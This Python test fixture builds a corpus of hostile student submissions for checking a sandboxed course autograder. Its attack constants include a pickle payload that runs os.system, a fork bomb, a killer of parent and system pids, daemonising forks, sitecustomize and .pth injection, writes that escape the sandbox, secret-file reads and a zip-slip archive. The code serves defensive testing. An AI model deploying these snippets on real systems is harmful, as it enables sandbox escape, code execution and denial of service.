"""Builds, at test time, a hostile corpus of submissions from the reference package.

Every entry is the reference ``cs231n_lite`` (or the student release's)
copied to a folder and mutated: a solution region replaced by hostile code,
code appended to ``__init__.py``, a broken zip, an odd student id. Each attack
class of issue 10 has an entry; ``build`` returns what the grader must make
of each (``EXPECT``: column -> "full", "zero" or a substring of the reason),
checked by tests/test_grade.py against the mini hidden tests in MINI_TESTS.
The attacks know the real paths (the instructor tree, HOME, the other
submissions, --out): a determined student can guess them.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import shutil
import textwrap
import zipfile
from pathlib import Path

from kit_builder import edit_region

MINI_TESTS = '''
import numpy as np
from hidden_helpers import student, unchanged_inputs


def test_sgd():
    w, _ = student("optim").sgd(np.ones(2), np.ones(2), {"learning_rate": 0.25})
    assert np.allclose(w, 0.75), f"sgd step: expected 0.75, got {w}"


def test_svm_naive():
    scores = np.array([[3.2, 5.1, -1.7], [1.3, 4.9, 2.0], [2.2, 2.5, -3.1]])
    loss, _ = student("classifiers.linear_svm").svm_loss_naive(scores, np.eye(3), np.arange(3), 0.0)
    assert abs(loss - 15.8 / 3) < 1e-9, f"lecture example: expected 5.2667, got {loss}"


def test_svm_vectorized():
    rng = np.random.default_rng(0)
    W, X, y = rng.standard_normal((4, 3)), rng.standard_normal((5, 4)), np.arange(5) % 3
    fn = student("classifiers.linear_svm").svm_loss_vectorized
    loss, dW = unchanged_inputs(fn, W, X, y, 0.1)
    assert np.shape(dW) == W.shape, f"dW shape {np.shape(dW)}, expected {W.shape}"
    assert np.isfinite(loss), f"loss is {loss}"


def test_softmax_vectorized():
    W = np.array([[3.2, 5.1, -1.7]])
    loss, _ = student("classifiers.softmax").softmax_loss_vectorized(W, np.ones((1, 1)), np.zeros(1, int), 0.0)
    assert abs(loss - 2.0404) < 1e-3, f"lecture cat: expected 2.04, got {loss}"
'''

MINI_RUBRIC = '''
[limits]
timeout = 5
budget = 90
memory = 2048
reply = 8

[parts.optim]
points = 2
[parts.optim.tests]
"test_mini.py::test_sgd" = 2

[parts.svm]
points = 5
[parts.svm.tests]
"test_mini.py::test_svm_naive" = 3
"test_mini.py::test_svm_vectorized" = 2

[parts.softmax]
points = 3
[parts.softmax.tests]
"test_mini.py::test_softmax_vectorized" = 3
'''

ITEMS = ("optim/test_mini.py::test_sgd", "svm/test_mini.py::test_svm_naive",
         "svm/test_mini.py::test_svm_vectorized", "softmax/test_mini.py::test_softmax_vectorized")
SGD, NAIVE, VECTORIZED, SOFTMAX = ITEMS
FULL = dict.fromkeys(ITEMS, "full")
LONG_ID = "x" * 251  # + ".zip": a 255-character file name, the most a folder entry may have
EXPECTED_STUDENTS = (
    "correct", "untouched", "partial",  # plain work
    "syntax_error", "import_error", "memory_hog", "wrong_shapes", "nan_results", "in_place",
    "path_trick", "read_secrets", "write_escape", "sitecustomize", "kill_parent", "daemons",
    "fork_bomb", "forge", "network", "tamper",  # attacks
    "infinite_loop", "hang_in_c", "crashes", "huge_reply", "pickle_bomb",  # hangs and deaths
    "zip_slip", "empty", "no_package", "bob smith", "bob_smith", LONG_ID,  # messy input
)


def rows(path: Path) -> dict:
    """student -> row of a grades.csv."""
    return {r["student"]: r for r in csv.DictReader(io.StringIO(path.read_text()))}


def reasons(feedback: Path) -> dict:
    """item key -> 'reason' from a feedback file's '- key: 0/2 -- reason' lines."""
    found = {}
    for line in feedback.read_text().splitlines():
        m = re.match(r"- (\S+): [\d.]+/[\d.]+(?: -- (.*))?$", line)
        if m:
            found[m.group(1)] = m.group(2) or ""
    return found


def write_mini_grading(dest: Path, repo: Path) -> Path:
    dest.mkdir(parents=True)
    shutil.copyfile(repo / "grading" / "hidden_helpers.py", dest / "hidden_helpers.py")
    (dest / "test_mini.py").write_text(MINI_TESTS)
    (dest / "rubric.toml").write_text(MINI_RUBRIC)
    return dest


def replace_region(pkg: Path, module: str, owner: str, code: str) -> None:
    """Replace the solution region of ``owner`` in ``pkg/module`` by ``code``."""
    def edit(r, lines):
        lines[r.begin: r.end + 1] = [r.indent + ln for ln in textwrap.dedent(code).strip("\n").splitlines()]
    edit_region(pkg, module, owner, edit)


def _zip_folder(folder: Path, zip_path: Path) -> None:
    with zipfile.ZipFile(zip_path, "w") as zf:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                zf.write(path, path.relative_to(folder).as_posix())


def _copy(src_pkg: Path, dest: Path) -> Path:
    shutil.copytree(src_pkg, dest / "cs231n_lite", ignore=shutil.ignore_patterns("__pycache__"))
    return dest / "cs231n_lite"


def _append(pkg: Path, code: str, module: str = "__init__.py") -> None:
    path = pkg / module
    path.write_text(path.read_text() + "\n" + textwrap.dedent(code))


# ------------------------------------------------------------ the attacks
# reading or importing instructor code: the __path__ trick of the issue, with
# every way a student could find the instructor's package
PATH_TRICK = '''
import glob as _glob, os as _os, re as _re, sys as _sys
_found = [{instructor_pkg!r}]
try:
    import coursekit as _ck
    _found.append(_os.path.join(_os.path.dirname(_os.path.dirname(_ck.__file__)), "cs231n_lite"))
except Exception:
    pass
for _sp in list(_sys.path):
    for _f in _glob.glob(_os.path.join(_sp, "__editable__*finder.py")):
        try:
            _found += _re.findall(r"'cs231n_lite': '([^']+)'", open(_f).read())
        except OSError:
            pass
for _sp in list(_sys.path):
    _found.append(_os.path.join(_sp, "cs231n_lite"))
for _c in _found:
    if _os.path.isfile(_os.path.join(_c, "optim.py")) and not _c.startswith(_os.path.dirname(__file__)):
        __path__.insert(0, _c)
        break
'''

# reading what the sandbox must not see; any success breaks the package loudly
READ_SECRETS = '''
import glob as _glob, os as _os
_leaks = []
for _p in {secrets!r}:
    try:
        with open(_p, "rb") as _f:
            _f.read(1)
        _leaks.append(_p)
    except OSError:
        pass
    if _os.path.exists(_p):
        _leaks.append("exists: " + _p)
for _d in _glob.glob("/proc/[0-9]*"):  # the grader's processes, or any outside the sandbox?
    try:
        _cmd = open(_d + "/cmdline", "rb").read()
        _uid = open(_d + "/status").read().split("Uid:")[1].split()[0]
    except OSError:
        continue
    if b"coursekit.grader.judge" in _cmd or {repo!r}.encode() in _cmd or (_uid == "0" and _d != "/proc/1"):
        _leaks.append(_d)
if _leaks:
    raise ImportError("leaked: " + ", ".join(_leaks))
'''

# writing outside: plain opens, through a dir fd, hard links, symlinks, --out
WRITE_ESCAPE = '''
import os as _os
def _attempt(fn):
    try:
        fn()
    except OSError:
        pass
for _t in {targets!r}:
    _attempt(lambda: open(_t, "w").write("escaped"))
    _attempt(lambda: _os.link(_t, "/tmp/linked"))
    _attempt(lambda: open("/tmp/linked", "w").write("escaped through a hard link"))
    _attempt(lambda: _os.symlink("/tmp/evil", _t))
    _dir = _os.path.dirname(_t)
    def _via_dirfd():
        fd = _os.open("/", _os.O_RDONLY)
        _os.open(_t.lstrip("/"), _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o666, dir_fd=fd)
    _attempt(_via_dirfd)
    _attempt(lambda: open(_os.path.join(_dir, "escaped.txt"), "w").write("escaped"))
for _t in ("/submission/cs231n_lite/optim.py", "/opt/coursekit/worker.py", "/usr/escaped.txt",
           "/escaped.txt", _os.path.expanduser("~/../escaped.txt")):
    _attempt(lambda: open(_t, "a").write("# escaped"))
'''

# code that would run before the grader's own in a restarted process
SITECUSTOMIZE = '''
import os, signal, sys
payload = "raise SystemExit('sitecustomize ran')\\n"
for folder in ("/tmp", os.path.expanduser("~"), os.getcwd(), "/submission", "/opt/coursekit",
               os.path.expanduser("~/.local/lib/python3.11/site-packages"), *sys.path):
    for name, text in (("sitecustomize.py", payload), ("usercustomize.py", payload),
                       ("evil.pth", "import sys; " + payload)):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as f:
                f.write(text)
        except OSError:
            pass
os.environ["PYTHONPATH"] = "/tmp"
os.environ["PYTHONSTARTUP"] = "/tmp/sitecustomize.py"
os.kill(os.getpid(), signal.SIGKILL)  # force a restart: would it load any of them?
'''

# killing the grader: the parent, everyone, every pid
KILLER = '''
import os as _os, signal as _signal
for _pid in [_os.getppid(), 1, -1] + list(range(2, 300)):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
'''

# processes meant to outlive the grader: fork_exec in a new session, a double fork. If
# either cannot even start, the package breaks loudly: the attack must be real
DAEMONS = '''
import ctypes as _ctypes, os as _os, sys as _sys
import _posixsubprocess
_args = [a.encode() for a in (_sys.executable, "-c", "import time; time.sleep(600)  # coursekit-corpus-daemon")]
_err_r, _err_w = _os.pipe()
_base = ([_sys.executable.encode()], True, (), None, None, -1, -1, -1, -1, -1, -1, _err_r, _err_w, True, True)
for _extra in ((-1, None, None, None, -1, None, False), (-1, None, None, None, -1, None),
               (None, None, None, -1, None)):  # the signature differs by version: 3.11.x-3.13, early 3.11, 3.10
    try:
        _posixsubprocess.fork_exec(_args, *_base, *_extra)
        break
    except TypeError:
        continue
else:
    raise ImportError("fork_exec: no known signature")
_libc = _ctypes.CDLL(None)
_pid = _libc.fork()
if _pid == 0:
    _libc.setsid()
    if _libc.fork() == 0:
        _libc.sleep(600)
    _libc._exit(0)
if _pid < 0:
    raise ImportError("fork failed")
'''

FORK_BOMB = '''
import ctypes
libc = ctypes.CDLL(None)
while True:
    if libc.fork() < 0:  # RLIMIT_NPROC reached: sleep rather than burn the other jobs' CPU
        libc.sleep(600)
'''

# forged replies and old-style result events on every descriptor
FORGE = '''
import json as _json, os as _os, struct as _struct
_doc = _json.dumps({{"m": {{"op": "ok", "value": 5.266666666666667, "changed": {{"l": []}}}},
                    "blobs": []}}).encode()
_frame = b"S" + _struct.pack("!I", len(_doc)) + _doc
_frame = _struct.pack("!I", len(_frame)) + _frame
_event = _json.dumps({{"event": "result", "nodeid": "test_mini.py::test_sgd", "outcome": "passed"}})
for _fd in range(0, 40):
    for _data in (_frame, (_event + "\\n").encode()):
        try:
            _os.write(_fd, _data)
        except OSError:
            pass
'''

NETWORK = '''
import socket as _socket
_reached = []
for _host, _port in (("1.1.1.1", 53), ("8.8.8.8", 443), ("10.0.2.2", 80), ("172.17.0.1", 80)):
    try:
        _socket.create_connection((_host, _port), timeout=2).close()
        _reached.append(_host)
    except OSError:
        pass
try:
    _socket.getaddrinfo("pypi.org", 443)
    _reached.append("dns")
except OSError:
    pass
if _reached:
    raise ImportError(f"network reached: {_reached}")
'''


def _secrets(repo: Path, others: Path, out: Path, home_canary: Path) -> list[str]:
    return [str(repo / "grading" / "test_svm.py"), str(repo / "grading" / "rubric.toml"),
            str(repo / "notebooks" / "svm.ipynb"), str(repo / "cs231n_lite" / "optim.py"),
            str(repo / "coursekit" / "grader" / "grade.py"), str(home_canary),
            str(others / "correct" / "cs231n_lite" / "optim.py"), str(out)]


def build(root: Path, repo: Path, release: Path, paths: dict) -> dict:
    """Write the corpus into ``root``; return {student: {column: "full"/"zero"/reason}}.

    ``repo``: the instructor repository; ``release``: the student release's
    ``cs231n_lite``; ``paths``: ``canary`` (a file in HOME), ``out`` (--out).
    """
    root.mkdir(parents=True)
    reference, expect = repo / "cs231n_lite", {}
    shutil.copytree(release, root.parent / "corpus-release",
                    ignore=shutil.ignore_patterns("__pycache__"))

    def folder(name, src=reference):
        return _copy(src, root / name)

    folder("correct")
    expect["correct"] = {"status": "graded", **FULL}

    untouched = _copy(release, root.parent / "corpus-work" / "untouched")
    _zip_folder(untouched.parent, root / "untouched.zip")
    expect["untouched"] = {"status": "graded", **dict.fromkeys(ITEMS, "not implemented")}

    pkg = folder("partial", release)
    shutil.copyfile(reference / "optim.py", pkg / "optim.py")
    expect["partial"] = {**dict.fromkeys(ITEMS, "not implemented"), SGD: "full"}

    _broken(root, folder, expect)
    _attacks(root, repo, folder, expect, paths)
    _hangs_and_deaths(folder, expect)
    _inputs(root, folder, expect)
    assert set(expect) == set(EXPECTED_STUDENTS), set(expect) ^ set(EXPECTED_STUDENTS)
    return expect


def _broken(root, folder, expect) -> None:
    """Plain broken work: the reasons students read."""
    pkg = folder("syntax_error")
    (pkg / "optim.py").write_text((pkg / "optim.py").read_text().replace("def sgd(", "def sgd((", 1))
    expect["syntax_error"] = {**FULL, SGD: "crashed: SyntaxError"}

    pkg = folder("import_error")
    _append(pkg, 'raise ValueError("boom at import")\n', "classifiers/linear_svm.py")
    expect["import_error"] = {**FULL, NAIVE: "crashed: ValueError: boom at import at "
                                            "cs231n_lite/classifiers/linear_svm.py:",
                              VECTORIZED: "crashed: ValueError: boom at import"}

    pkg = folder("memory_hog")
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_vectorized",
                   "big = np.ones(int(30e9 / 8))\nloss = float(big.sum())")
    expect["memory_hog"] = {**FULL, VECTORIZED: "exceeded memory (limit 2048 MB)"}

    pkg = folder("wrong_shapes")
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_vectorized", "loss, dW = 1.0, np.zeros((3, 3))")
    expect["wrong_shapes"] = {**FULL, VECTORIZED: "wrong: dW shape (3, 3), expected (4, 3)"}

    pkg = folder("nan_results")
    replace_region(pkg, "classifiers/softmax.py", "softmax_loss_vectorized", 'loss = float("nan")')
    expect["nan_results"] = {**FULL, SOFTMAX: "wrong: lecture cat: expected 2.04, got nan"}

    pkg = folder("in_place")  # right answer, but it scribbles on the caller's W
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_vectorized",
                   "loss, dW = svm_loss_naive(W, X, y, reg, squared)\nW *= 2")
    expect["in_place"] = {**FULL, VECTORIZED: "wrong: svm_loss_vectorized changed its input 'W' in place"}


def _attacks(root, repo, folder, expect, paths) -> None:
    """Reading, writing, importing, killing, outliving, forging, networking."""
    pkg = folder("path_trick", root.parent / "corpus-release")
    _append(pkg, PATH_TRICK.format(instructor_pkg=str(repo / "cs231n_lite")))
    expect["path_trick"] = {"status": "graded", **dict.fromkeys(ITEMS, "not implemented")}

    pkg = folder("read_secrets")
    _append(pkg, READ_SECRETS.format(secrets=_secrets(repo, root, paths["out"], paths["canary"]),
                                     repo=str(repo)))
    expect["read_secrets"] = {"status": "graded", **FULL}

    pkg = folder("write_escape")
    targets = _secrets(repo, root, paths["out"], paths["canary"])
    targets += [str(paths["out"] / "grades.csv"), str(paths["out"] / "feedback" / "correct.md")]
    _append(pkg, WRITE_ESCAPE.format(targets=targets))
    expect["write_escape"] = {"status": "graded", **FULL}

    pkg = folder("sitecustomize")
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_naive", SITECUSTOMIZE)
    expect["sitecustomize"] = {**FULL, NAIVE: "crashed: the sandboxed process died (signal 9)"}

    pkg = folder("kill_parent")
    _append(pkg, KILLER)
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_naive",
                   KILLER + "\nloss, dW = svm_loss_vectorized(W, X, y, reg, squared)")
    expect["kill_parent"] = {"status": "graded", **FULL}

    pkg = folder("daemons")
    _append(pkg, DAEMONS)
    expect["daemons"] = {"status": "graded", **FULL}

    pkg = folder("fork_bomb")
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_naive", FORK_BOMB)
    expect["fork_bomb"] = {**FULL, NAIVE: "timed out after 5 s"}

    pkg = folder("forge", root.parent / "corpus-release")
    _append(pkg, FORGE.format())
    expect["forge"] = {"status": "graded", **dict.fromkeys(ITEMS, "zero")}

    pkg = folder("network")
    _append(pkg, NETWORK)
    expect["network"] = {"status": "graded", **FULL}

    pkg = folder("tamper", root.parent / "corpus-release")  # "passing" grader files of its own
    (root / "tamper" / "grading").mkdir()
    (root / "tamper" / "grading" / "test_mini.py").write_text("def test_sgd():\n    pass\n")
    (root / "tamper" / "grading" / "rubric.toml").write_text("# everything is worth 0\n")
    expect["tamper"] = dict.fromkeys(ITEMS, "not implemented")


def _hangs_and_deaths(folder, expect) -> None:
    pkg = folder("infinite_loop")
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_naive", "while True:\n    pass")
    expect["infinite_loop"] = {**FULL, NAIVE: "timed out after 5 s"}

    pkg = folder("hang_in_c")  # no signal handler can end these: only a kill
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_naive",
                   "import ctypes\nctypes.CDLL(None).sleep(600)")
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_vectorized",
                   "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, "
                   "signal.SIGINT, signal.SIGTERM})\nwhile True:\n    pass")
    expect["hang_in_c"] = {**FULL, NAIVE: "timed out after 5 s", VECTORIZED: "timed out after 5 s"}

    pkg = folder("crashes")
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_naive", "import ctypes\nctypes.string_at(0)")
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_vectorized", "import os\nos._exit(3)")
    expect["crashes"] = {**FULL, NAIVE: "crashed: the sandboxed process died (signal 11)",
                         VECTORIZED: "crashed: the sandboxed process exited (exit code 3)"}

    pkg = folder("huge_reply")  # 64 MB back, the mini rubric allows 8
    replace_region(pkg, "classifiers/linear_svm.py", "svm_loss_vectorized",
                   "loss, dW = 1.0, np.zeros(8 * 2**20)")
    expect["huge_reply"] = {**FULL, VECTORIZED: "crashed: returned too much data (64.0 MB, limit 8 MB)"}

    pkg = folder("pickle_bomb")  # an object whose unpickling would run a command in the judge
    replace_region(pkg, "classifiers/softmax.py", "softmax_loss_vectorized", '''
        class Evil:
            def __reduce__(self):
                import os
                return (os.system, ("touch /tmp/coursekit-corpus-pwned",))
        loss = Evil()''')
    expect["pickle_bomb"] = {**FULL, SOFTMAX: "zero"}


def _inputs(root, folder, expect) -> None:
    """Messy input the grader must survive: zips, names, missing pieces."""
    with zipfile.ZipFile(root / "zip_slip.zip", "w") as zf:
        zf.writestr("cs231n_lite/__init__.py", "")
        zf.writestr("../zip-slip-escaped.py", "print('escaped')")
    expect["zip_slip"] = {"status": "rejected: unsafe path '../zip-slip-escaped.py' in the zip",
                          **dict.fromkeys(ITEMS, "rejected")}

    zipfile.ZipFile(root / "empty.zip", "w").close()
    expect["empty"] = {"status": "rejected: empty zip", **dict.fromkeys(ITEMS, "rejected")}

    (root / "no_package" / "notebooks").mkdir(parents=True)
    (root / "no_package" / "README.txt").write_text("I forgot my code")
    expect["no_package"] = {"status": "rejected: no cs231n_lite/ package"}

    release = root.parent / "corpus-release"
    for student in ("bob smith", "bob_smith"):  # one safe name, two students
        folder(student, release)
        expect[student] = {"status": "graded", **dict.fromkeys(ITEMS, "not implemented")}
    long_pkg = _copy(release, root.parent / "corpus-work" / "long")
    _zip_folder(long_pkg.parent, root / f"{LONG_ID}.zip")
    expect[LONG_ID] = {"status": "graded", **dict.fromkeys(ITEMS, "not implemented")}


# ------------------------------------------------- what must stay the same
def snapshot(*folders: Path) -> dict:
    """path -> sha256 of every file below ``folders`` (symlinks by their target)."""
    found = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")) if folder.is_dir() else [folder]:
            if "__pycache__" in path.parts or ".pytest_cache" in path.parts:
                continue
            if path.is_symlink():
                found[str(path)] = "link:" + os.readlink(path)
            elif path.is_file():
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def leftover_processes(markers: list[bytes], uid_range: range) -> list[str]:
    """Live processes whose uid is a sandbox uid of this run or whose command line
    holds one of ``markers``."""
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            status = (entry / "status").read_text()
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        uid = int(status.split("Uid:")[1].split()[0])
        if uid in uid_range or any(m in cmdline for m in markers):
            found.append(f"{entry.name} uid={uid} {cmdline[:120]!r}")
    return found


# ------------------------------------------------- a tiny reference notebook
NB_RUBRIC = '''
[limits]
timeout = 20
budget = 120
memory = 2048
cell_timeout = 8
notebook_size = 1
notebook_cells = 200

[parts.optim]
points = 7
notebook = "mini.ipynb"
[parts.optim.tests]
"test_nb.py::test_sgd" = 2
[parts.optim.cells]
"mini-data" = 1
"mini-sgd" = 2
"mini-hidden" = 1
[parts.optim.answers]
"mini-q1" = 1
'''

NB_TESTS = '''
import numpy as np
from hidden_helpers import student


def test_sgd():
    w, _ = student("optim").sgd(np.ones(2), np.ones(2), {"learning_rate": 0.5})
    assert np.allclose(w, 0.5), "sgd step"
'''

TUNING = '''### BEGIN SOLUTION
best_lr = min([0.1, 0.2], key=lambda lr: abs(step(np.ones(2), lr).sum()))
### END SOLUTION'''
SOLUTION = '''def step(w, lr):
    ### BEGIN SOLUTION
    return sgd(w, np.array([0.5, 0.5]), {"learning_rate": lr})[0]
    ### END SOLUTION'''


def _cell(source, grade_id, points=0, *, grade=False, solution=False, output=None):
    import nbformat.v4 as v4

    cell = v4.new_code_cell(source)
    cell.execution_count = 1
    cell.metadata["nbgrader"] = {"grade": grade, "solution": solution, "locked": not solution,
                                 "task": False, "points": points, "grade_id": grade_id,
                                 "schema_version": 3}
    if output:
        cell.outputs = [v4.new_output("stream", name="stdout", text=output)]
    return cell


def mini_notebook(answer: str, solution: str = SOLUTION, solution_id: str = "mini-impl"):
    """A reference notebook as the instructor commits it: two solution cells (a function,
    an experiment), graded cells (one with hidden tests), a 0-point experiment cell, one
    written answer."""
    import nbformat.v4 as v4

    setup = v4.new_code_cell("import numpy as np\nfrom cs231n_lite.optim import sgd")
    setup.execution_count = 1
    question = v4.new_markdown_cell(answer)
    question.metadata["nbgrader"] = {"grade": True, "solution": True, "locked": False, "task": False,
                                     "points": 1, "grade_id": "mini-q1", "schema_version": 3}
    data = ("import os, pathlib\n"
            'cache = pathlib.Path(os.environ["CS231N_LITE_CACHE"])\n'
            'assert any(cache.glob("sample-v*/cifar-10-batches-py/data_batch_1")), "no sample"')
    nb = v4.new_notebook(cells=[
        v4.new_markdown_cell("# Mini"), setup,
        _cell(data, "mini-data", 1, grade=True),
        _cell(solution, solution_id, solution=True),
        _cell('w = step(np.array([1.0, 2.0]), 0.1)\nprint(w.round(3))\n'
              'assert np.allclose(w, [0.95, 1.95]), f"step: expected [0.95 1.95], got {w}"',
              "mini-sgd", 2, grade=True, output="[0.95 1.95]\n"),
        _cell(TUNING, "mini-tune", solution=True),
        question,
        _cell("### BEGIN HIDDEN TESTS\n"
              'assert sgd(np.ones(2), np.ones(2), {"learning_rate": 1.0})[0].sum() == 0, "sgd step"\n'
              "### END HIDDEN TESTS", "mini-hidden", 1, grade=True),
        _cell('assert step(np.zeros(2), 0.0).sum() == 0, "experiment"', "mini-experiment", 0,
              grade=True)])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


def write_notebook_fixture(base: Path, repo: Path) -> tuple[Path, Path]:
    """(grading dir, reference notebooks dir) for the notebook phase."""
    import nbformat

    grading, notebooks = base / "nb-grading", base / "nb-reference"
    grading.mkdir(parents=True)
    notebooks.mkdir()
    shutil.copyfile(repo / "grading" / "hidden_helpers.py", grading / "hidden_helpers.py")
    (grading / "test_nb.py").write_text(NB_TESTS)
    (grading / "rubric.toml").write_text(NB_RUBRIC)
    nbformat.write(mini_notebook("**Your answer:** the reference answer"), notebooks / "mini.ipynb")
    return grading, notebooks
